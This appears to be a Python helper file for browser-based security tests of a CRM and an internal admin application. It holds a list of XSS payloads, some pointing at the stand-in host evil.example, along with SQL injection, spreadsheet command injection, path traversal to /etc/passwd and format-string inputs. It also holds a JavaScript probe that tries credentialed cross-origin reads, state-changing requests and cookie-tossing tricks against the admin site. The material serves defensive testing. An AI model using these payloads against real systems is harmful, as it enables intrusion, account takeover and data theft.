"""Texts that have broken other programs, and a page with a stranger's script on the CRM's own origin."""

# Whatever runs, sets this; no page of ours ever does.
RAN = "__ran"

XSS = (
    f"<script>window.{RAN}=1</script>",
    f"\"><img src=x onerror=\"window.{RAN}=2\">",
    f"'><svg onload=window.{RAN}=3>",
    f"javascript:window.{RAN}=4",
    f"<a href=\"javascript:window.{RAN}=5\">click</a>",
    f"<iframe srcdoc=\"<script>parent.{RAN}=6</script>\"></iframe>",
    f"</title></textarea></style><script>window.{RAN}=7</script>",
    f"<img src=x onerror=alert(8)>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror=window.{RAN}=9></style></mglyph></math>",
    f"<details open ontoggle=window.{RAN}=10>",
    f"<body onload=window.{RAN}=11>",
    f"<form action=https://evil.example><input name=x><button>",
    f"<style>*{{background:url(https://evil.example/12)}}</style>",
    f"<base href=https://evil.example/>",
    f"<meta http-equiv=refresh content=0;url=https://evil.example>",
    f"&lt;script&gt;window.{RAN}=13&lt;/script&gt;",
    f"{{{{constructor.constructor('window.{RAN}=14')()}}}}",
    f"${{window.{RAN}=15}}",
    f"data:text/html,<script>window.{RAN}=16</script>",
    f"a@b.c?subject=<script>window.{RAN}=17</script>&body=x",
)
NAUGHTY = (
    "' OR '1'='1' --", "=cmd|' /C calc'!A0", "../../../../etc/passwd", "%s%n%p", "null", "undefined", "__proto__", "-1",
    "Ω≈ç√∫˜µ≤≥÷", "㛃䶮𠮷", "مرحبا بالعالم", "Z̸̢̯a̶l̷g̵o̷", "👩‍👩‍👧‍👦🏳️‍🌈", "A" * 150, "  blank ends  ".strip(), "ﬀ½Ⅳ①",
    "Robert'); DROP TABLE contacts;--",
)
ALL = XSS + NAUGHTY

# Runs on https://crm.gatehouse.internal in the browser of somebody who is signed in to both applications. What it
# gets to read of the admin application is the answer.
SCRIPT = """async () => {
  const admin = "https://gatehouse.internal";
  const got = {};
  const read = async (name, promise) => {
    try {
      const answer = await promise;
      const text = await answer.text();
      got[name] = answer.type === "opaque" ? "opaque" : `read ${answer.status} ${text.slice(0, 200)}`;
    } catch (error) { got[name] = "nothing"; }
  };
  const json = {"content-type": "application/json", "idempotency-key": crypto.randomUUID()};
  const body = JSON.stringify({language: "zh-CN"});
  for (const path of ["/session", "/zones", "/log", "/log/export", "/sessions", "/crm-access"]) {
    await read(`GET ${path}`, fetch(`${admin}/api/v1${path}`, {credentials: "include"}));
    await read(`GET ${path} no-cors`, fetch(`${admin}/api/v1${path}`, {credentials: "include", mode: "no-cors"}));
  }
  await read("PATCH", fetch(`${admin}/api/v1/account`, {method: "PATCH", credentials: "include", headers: json, body}));
  await read("POST", fetch(`${admin}/api/v1/crm/manager-code`, {method: "POST", credentials: "include", headers: json}));
  for (const type of ["text/plain", "application/x-www-form-urlencoded"]) {
    await read(`POST ${type}`, fetch(`${admin}/api/v1/crm/manager-code`, {method: "POST", credentials: "include",
      mode: "no-cors", headers: {"content-type": type}, body}));
  }
  await read("DELETE", fetch(`${admin}/api/v1/session`, {method: "DELETE", credentials: "include"}));
  for (const cookie of ["__Host-admin=tossed; Domain=gatehouse.internal; Path=/; Secure",
      "__Host-admin=tossed; Domain=.gatehouse.internal; Path=/api; Secure", "__host-admin=tossed; Domain=gatehouse.internal; Secure",
      "__Secure-admin=tossed; Domain=gatehouse.internal; Path=/; Secure", " =__Host-admin=tossed; Domain=gatehouse.internal; Secure",
      "\u2000__Host-admin=tossed; Domain=gatehouse.internal; Path=/; Secure", "\u00a0__Host-admin-step=tossed; Domain=gatehouse.internal; Path=/; Secure",
      "\u0085__Host-admin=tossed; Domain=gatehouse.internal; Path=/; Secure", "admin=tossed; Domain=gatehouse.internal; Path=/", "__Host-admin-step=tossed; Domain=gatehouse.internal; Path=/; Secure"]) {
    document.cookie = cookie;
  }
  got.cookies = document.cookie;
  const framed = document.createElement("iframe");
  await new Promise((done) => { framed.onload = done; framed.src = admin + "/"; document.body.append(framed); setTimeout(done, 5000); });
  try { got.frame = framed.contentDocument ? "same document" : framed.contentWindow.document.title; } catch (error) { got.frame = "nothing"; }
  const opened = window.open(admin + "/");
  await new Promise((done) => setTimeout(done, 1500));
  try { got.window = opened === null || opened.closed ? "nothing" : opened.document.body.innerText || "nothing"; } catch (error) { got.window = "nothing"; }
  const image = new Image();
  got.image = await new Promise((done) => { image.onload = () => done("loaded"); image.onerror = () => done("nothing");
    image.src = admin + "/api/v1/session"; });
  const script = document.createElement("script");
  got.script = await new Promise((done) => { script.onload = () => done("loaded"); script.onerror = () => done("nothing");
    script.src = admin + "/api/v1/session"; document.body.append(script); });
  return got;
}"""
PLACE = "https://crm.gatehouse.internal/hostile"


def page_of(context):
    """A page of the CRM's origin whose content is a stranger's: no policy protects anybody from it."""
    page = context.new_page()
    page.route(PLACE, lambda route: route.fulfill(content_type="text/html", body="<!doctype html><title>x</title><body>"))
    page.goto(PLACE)
    return page
